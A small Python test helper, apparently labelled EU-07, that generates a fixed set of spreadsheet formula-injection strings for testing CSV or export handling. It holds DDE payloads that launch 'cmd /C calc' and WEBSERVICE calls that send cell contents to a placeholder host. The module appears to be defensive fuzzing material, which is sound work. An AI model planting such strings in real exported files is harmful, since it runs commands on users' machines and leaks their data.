"""Text that a spreadsheet would run as a formula if it were let (EU-07)."""

import random

_STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", "''=", "|"]
_BODIES = [
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://example.invalid","点我")',
    "SUM(A1:A9)",
    'IMPORTXML("http://example.invalid","//a")',
    "2+5+cmd|' /C notepad'!'A1'",
    'WEBSERVICE("http://example.invalid/"&A1)',
    'DDE("cmd";"/C calc")',
    "@SUM(1,2)",
    "一百",
    "{1}",
    "_x0041_",
]


def formula_payloads(count: int) -> list[str]:
    """`count` different payloads, always the same ones."""
    draw = random.Random(7)
    found: dict[str, None] = {}
    while len(found) < count:
        tail = draw.choice(["", " ", "\t", "%0A", ",", '"', "'"]) + str(draw.randrange(1000))
        found[draw.choice(_STARTS) + draw.choice(_BODIES) + tail] = None
    return list(found)
